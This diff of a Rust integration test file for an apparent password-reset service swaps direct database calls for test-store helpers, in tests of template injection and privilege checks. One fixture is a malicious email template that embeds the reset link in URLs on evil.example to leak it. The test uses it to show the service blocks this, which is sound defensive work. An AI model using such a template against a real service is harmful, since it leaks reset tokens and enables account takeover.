@@ -19,7 +19,7 @@ use latchkey::domain::{EmailAddress, Language, Role};
 use latchkey::mail::templates::{MailKind, TemplateSource};
 use latchkey::service::admin_reset::{AdminReset, Recipients, ResetKind, When};
 use latchkey::service::{AccountChanges, Actor};
-use latchkey::store::{self, Account, Tenant};
+use latchkey::store::{Account, Tenant};
 use secrecy::ExposeSecret;
 use serde_json::json;
 
@@ -308,17 +308,16 @@ async fn stored_templates_cannot_send_the_link_elsewhere(backend: Backend) {
                <image src=\"https://evil.example/{{ reset_link }}\"><p>https://evil.example/?{{ reset_link }}</p>"
             .into(),
     };
-    store::templates::put(
-        &w.app.core.db,
-        w.tenant.id,
-        MailKind::ResetLink,
-        Language::En,
-        &t,
-        "test",
-        w.app.core.now(),
-    )
-    .await
-    .unwrap();
+    w.app
+        .core
+        .test_store()
+        .put_template(
+            (w.tenant.id, MailKind::ResetLink, Language::En),
+            &t,
+            w.app.core.now(),
+        )
+        .await
+        .unwrap();
     forgot(&w.app, "bob").await;
     let mail = wait_for(&w.sys, BOB_MAIL, 1).await.remove(0);
     let ours = format!(
@@ -348,7 +347,9 @@ async fn stored_templates_cannot_send_the_link_elsewhere(backend: Backend) {
 }
 
 async fn account(w: &World, username: &str) -> Account {
-    store::accounts::by_username(&w.app.core.db, w.tenant.id, username)
+    w.app
+        .core
+        .account_named(&w.tenant, username)
         .await
         .unwrap()
         .unwrap()
@@ -377,7 +378,10 @@ async fn post(w: &World, key: &str, path: &str) -> (u16, serde_json::Value) {
 }
 
 async fn status_of(w: &World, task: i64) -> String {
-    store::mail::get(&w.app.core.db, task)
+    w.app
+        .core
+        .test_store()
+        .task(task)
         .await
         .unwrap()
         .unwrap()
@@ -407,7 +411,7 @@ async fn scheduled_reset(w: &World, actor: &Actor, to: &Account, privileged: boo
         .unwrap();
     let task: i64 = sqlx::query_scalar("SELECT id FROM mail_tasks WHERE campaign_id = $1")
         .bind(campaign)
-        .fetch_one(w.app.core.db.read_pool())
+        .fetch_one(w.app.core.test_store().pool())
         .await
         .unwrap();
     (campaign, task)
@@ -445,7 +449,7 @@ async fn tenant_keys_cannot_redo_or_cancel_a_system_admins_mail(backend: Backend
     let (campaign, task) = scheduled_reset(&w, &Actor::Cli, &root, true).await;
     sqlx::query("UPDATE mail_tasks SET status = 'failed' WHERE id = $1")
         .bind(task)
-        .execute(w.app.core.db.read_pool())
+        .execute(w.app.core.test_store().pool())
         .await
         .unwrap();
     let (status, body) = post(&w, &tenant_key, &format!("{base}/tasks/{task}/redo")).await;
@@ -495,7 +499,7 @@ async fn a_reset_queued_before_a_promotion_is_not_sent(backend: Backend) {
     }
     let log: Vec<String> = sqlx::query_scalar("SELECT smtp_reply FROM mail_log WHERE task_id = $1")
         .bind(task)
-        .fetch_all(w.app.core.db.read_pool())
+        .fetch_all(w.app.core.test_store().pool())
         .await
         .unwrap();
     assert!(
@@ -512,7 +516,7 @@ async fn a_reset_queued_before_a_promotion_is_not_sent(backend: Backend) {
     // No link was made for bob, and his password is untouched.
     let tokens: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM reset_tokens WHERE account_id = $1")
         .bind(account(&w, "bob").await.id)
-        .fetch_one(w.app.core.db.read_pool())
+        .fetch_one(w.app.core.test_store().pool())
         .await
         .unwrap();
     assert_eq!(tokens, 0);
